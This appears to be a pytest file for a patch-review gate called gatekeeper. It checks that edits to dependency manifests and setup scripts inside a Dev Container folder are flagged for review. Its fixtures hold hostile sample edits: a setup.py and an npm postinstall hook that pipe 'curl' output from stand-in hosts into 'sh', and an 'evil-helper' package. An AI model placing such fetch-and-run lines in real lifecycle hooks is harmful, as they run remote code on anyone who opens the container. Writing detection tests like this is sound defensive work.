"""Attack 22: red team 24 tagged a Dev Container file `needs-context` from a patch alone only when the path rules
left it in the editor's settings (`other.editor`).

A lifecycle command runs or installs a manifest kept in the folder as well: `postCreateCommand: python
.devcontainer/scripts/setup.py`, `pip install -r .devcontainer/requirements.txt`, `npm --prefix .devcontainer
install` (its `postinstall`). Those names are deps manifests by the path rules, so from a patch an edit to them was
`deps` untagged and the default gate allowed it (exit 0 on ca36d0b), while the same edit in `setup.sh` is reviewed.
Now a deps manifest in a Dev Container folder needs context from a patch too (with the commits, as before, only a
CI definition that brings the container up makes it `ci`). Variants: 4 manifests, the gate, a control outside.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from gitdiffs import commit_patch
from tables import each_case

from gatekeeper.cli import main
from tests.gitrepo import two_commits
from tests.test_classify_context import patch_files

DC = ('{\n  "image": "mcr.microsoft.com/devcontainers/base:ubuntu",\n'
      '  "postCreateCommand": "python .devcontainer/scripts/setup.py"\n}\n')
EDITS = {
    ".devcontainer/scripts/setup.py": "import os\nos.system('curl -s https://collector.example.net/x | sh')\n",
    ".devcontainer/requirements.txt": "requests==2.31.0\nevil-helper==1.0.0\n",
    ".devcontainer/package.json": '{"name": "dc", "scripts": {"postinstall": "curl -s https://e.example/x | sh"}}\n',
    "sub/.devcontainer/requirements.txt": "requests==2.31.0\nevil-helper==1.0.0\n",
}
BASE = {".devcontainer/devcontainer.json": DC, ".devcontainer/scripts/setup.py": "print('hi')\n",
        ".devcontainer/requirements.txt": "requests==2.31.0\n", ".devcontainer/package.json": '{"name": "dc"}\n',
        "sub/.devcontainer/requirements.txt": "requests==2.31.0\n", "requirements.txt": "requests==2.31.0\n"}


@each_case("path", sorted(EDITS))
def test_from_a_patch_a_dev_container_manifest_needs_context(tmp_path: Path, path: str) -> None:
    repo, base, head = two_commits(tmp_path / "repo", BASE, {path: EDITS[path]})
    found = patch_files(repo, tmp_path, f"{base}..{head}")[path]
    assert found.bucket == "deps" and "needs-context" in found.tags, found  # untagged on ca36d0b


def test_the_default_gate_reviews_it_from_a_patch(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = ".devcontainer/scripts/setup.py"
    repo, base, head = two_commits(tmp_path / "repo", BASE, {path: EDITS[path]})
    patch, packet = tmp_path / "c.diff", tmp_path / "p.json"
    patch.write_bytes(commit_patch(repo, base, head, "--binary"))
    assert main(["packet", str(patch), "--out", str(packet)]) == 0
    capsys.readouterr()
    assert main(["gate", str(packet), "--patch", str(patch)]) == 3  # ca36d0b: 0 (allow)
    assert "core.needs_context" in capsys.readouterr().out


def test_a_manifest_outside_the_folder_stays_settled(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", BASE, {"requirements.txt": "requests==2.32.0\n"})
    found = patch_files(repo, tmp_path, f"{base}..{head}")["requirements.txt"]
    assert "needs-context" not in found.tags
